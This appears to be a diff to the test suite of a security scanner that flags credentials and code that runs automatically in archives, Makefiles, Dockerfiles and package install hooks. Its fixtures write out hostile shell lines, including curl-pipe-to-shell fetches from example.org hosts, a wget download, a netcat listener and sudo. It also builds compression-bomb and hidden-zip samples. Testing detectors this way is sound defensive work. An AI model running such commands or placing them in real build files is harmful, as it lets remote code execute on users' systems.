@@ -1,7 +1,9 @@
 #!/usr/bin/python3
 """scan looks into notebooks, archives, ELF files, manifests; it finds credentials and what runs by itself."""
+import bz2
 import io
 import json
+import lzma
 import os
 import sys
 import tarfile
@@ -65,6 +67,8 @@ check("an archive in an archive", {"a.zip": zipped({"b.tar.gz": tarred({"c.py": 
 import gzip
 check("a single file that is compressed", {"x.py.gz": gzip.compress(PY)}, [("x.py.gz!/x.py", 2, "python.process")])
 check("an archive by what it is, not by its name", {"data.bin": zipped({"x.py": PY})}, [("data.bin!/x.py", 2, "python.process")])
+check("one behind a script, and behind a text", {"app": b"#!/usr/bin/env python3\n" + zipped({"__main__.py": PY}), "notes.txt": b"notes\n" * 200 + zipped({"__main__.py": PY})},
+      [("app", 0, "scan.syntax"), ("app", 2, "scan.disguised"), ("app!/__main__.py", 2, "python.process"), ("notes.txt!/__main__.py", 2, "python.process")])
 locked = bytearray(zipped({"x.py": PY}))
 for mark, at in (b"PK\3\4", 6), (b"PK\1\2", 8):
     locked[locked.index(mark) + at] |= 1
@@ -74,6 +78,52 @@ check("an archive that is cut off", {"a.tar": tarred({"x.py": PY * 400}, "w")[:2
 check("a single file that grows past the bounds, of no kind that is read", {"a.gz": gzip.compress(b"\1" * (257 << 20), 1)}, [("a.gz!/a", 0, "archive.bomb")])
 check("one that is large and within them", {"a.gz": gzip.compress(b"\1" * (20 << 20), 1)}, [])
 check("a member of that size", {"a.zip": zipped({"a": bytes(257 << 20)})}, [("a.zip!/a", 0, "archive.bomb")])
+
+for what, squeeze in ("gz", lambda b: gzip.compress(b, 1)), ("bz2", bz2.compress), ("xz", lambda b: lzma.compress(b, preset=0)):
+    check(f"zeros alone are a tar without a member, and a .{what} of them a bomb", {f"a.{what}": squeeze(bytes(257 << 20))}, [(f"a.{what}", 0, "archive.bomb")])
+check("a few of them are none", {"a.gz": gzip.compress(bytes(1 << 20))}, [])
+check("what is behind the end of a tar is looked at", {"a.tar": tarred({"x.py": b""}, "w") + tarred({"y.py": PY}, "w"), "b.tgz": gzip.compress(bytes(1 << 20) + tarred({"z.py": PY}, "w"))},
+      [("a.tar!/y.py", 2, "python.process"), ("b.tgz!/z.py", 2, "python.process")])
+
+# ---- lines for a shell in Makefiles and Dockerfiles ----
+
+MAKEFILE = b"""# curl https://a.example.org | sh
+CURL = curl -s
+SRC = $(wildcard *.c) # sudo
+X := $(shell wget -q https://b.example.org/a) $(shell hostname)
+Y != nc -l 1
+all: $(OBJS) ; sudo make install
+\t@eval ls
+\t$(CURL) https://c.example.org/i.sh | sh
+\t-$(CC) $(CFLAGS) -o $@ $< $(patsubst %.c,%.o,$(SRC)) && \\
+\t  curl https://d.example.org
+\tfor i in $$(ls); do echo $$i $(@D); done
+\t@echo "curl is not run: sudo" > $@
+ifeq ($(shell scp a b),)
+endif
+clean: ; rm -rf out
+"""
+run = check("a Makefile's recipes and functions", {"Makefile": MAKEFILE, "sub/rules.mk": b"a:\n\tsudo ls\n", "Makefile.txt": b"a:\n\tsudo ls\n"},
+            [("Makefile", 4, "shell.network"), ("Makefile", 5, "shell.network"), ("Makefile", 6, "shell.privilege"), ("Makefile", 7, "shell.dynamic-code"), ("Makefile", 8, "shell.dynamic-code"),
+             ("Makefile", 8, "shell.network"), ("Makefile", 10, "shell.network"), ("Makefile", 13, "shell.network"), ("sub/rules.mk", 2, "shell.privilege")])
+place = next(one for one in results(run.sarif) if one["locations"][0]["physicalLocation"]["region"].get("startLine") == 8)["locations"][0]["physicalLocation"]["region"]
+is_((place["snippet"]["text"], place["startColumn"]), ("\t$(CURL) https://c.example.org/i.sh | sh", 2), "the line is shown as it stands there")
+DOCKERFILE = b"""FROM debian
+# RUN sudo x
+ENV curl=1
+RUN --mount=type=cache,target=/x true && \\
+    # a remark
+    curl -s https://a.example.org/i.sh | sh
+run ["wget", "https://b.example.org/"]
+RUN <<'EOF'
+set -e
+nc -l 1
+EOF
+COPY curl /usr/bin/curl
+ENTRYPOINT ["curl"]
+"""
+check("a Dockerfile's", {"Dockerfile": DOCKERFILE, "app.dockerfile": b"RUN sudo ls", "Dockerfile.dev": b"FROM x\nRUN <<"},
+      [("Dockerfile", 6, "shell.network"), ("Dockerfile", 6, "shell.dynamic-code"), ("Dockerfile", 7, "shell.network"), ("Dockerfile", 10, "shell.network"), ("app.dockerfile", 1, "shell.privilege")])
 
 # ---- machine code ----
 
@@ -93,6 +143,14 @@ check("npm's scripts", {"package.json": b'{\n "scripts": {\n  "test": "x",\n  "p
 check("an npm package that only tests", {"package.json": b'{"scripts": {"test": "postinstall", "build": "tsc"}, "name": "install"}'}, [])
 check("Python's", {"setup.py": b"", "tests/conftest.py": b"", "x.pth": b"# nothing\nimport os; print(1)\n", "y.pth": b"../lib\n", "pyproject.toml": b"[build-system]\nbackend-path = ['.']\n"},
       [("setup.py", 0, "install.python"), ("tests/conftest.py", 0, "install.test"), ("x.pth", 2, "install.hook"), ("pyproject.toml", 2, "install.python")])
+for what, text in (("a nest", b'{"x": ' + b"[" * 70 + b"]" * 70 + b', "scripts": {"install": "x"}}'), ("bytes that are no text", b'{"x": "\xff", "scripts": {"install": "x"}}'),
+                   ("a number beyond all", b'{"x": 1e999, "scripts": {"install": "x"}}'), ("nothing", b"")):
+    check(f"a package that is {what}: nobody saw its scripts", {"package.json": text}, [("package.json", 0, "install.broken")])
+check("one with a byte order mark", {"package.json": b'\xef\xbb\xbf{"scripts": {"install": "x"}}'}, [("package.json", 1, "install.npm")])
+for what, text, line in (("a form feed", b"x\x0cimport os\n", 1), ("a byte order mark", b"\xef\xbb\xbfimport os\n", 1), ("a NUL behind", b"import os\n" + bytes(600), 1), ("a separator", "x\u2028import os".encode(), 1), ("a return", b"x\rimport\tos", 1)):
+    check(f"a .pth with {what}", {"x.pth": text}, [("x.pth", line, "install.hook")])
+check("a .pth that only names it", {"x.pth": b"ximport os\nimportant\nlib/import \n"}, [])
+check("a hook of bytes that are no text", {".git/hooks/post-checkout": b"ls\n" + bytes(600)}, [(".git/hooks/post-checkout", 0, "install.hook")])
 check("others'", {".git/hooks/post-checkout": b"#!/bin/sh\necho\n", ".git/hooks/pre-push.sample": b"", "binding.gyp": b"{}", "a.csproj": b"<Project>\n<Target><Exec Command='x'/></Target></Project>", "build.rs": b"", ".envrc": b""},
       [(".git/hooks/post-checkout", 0, "install.hook"), ("binding.gyp", 0, "install.native"), ("a.csproj", 2, "install.hook"), ("build.rs", 0, "install.hook"), (".envrc", 0, "install.hook")])
 
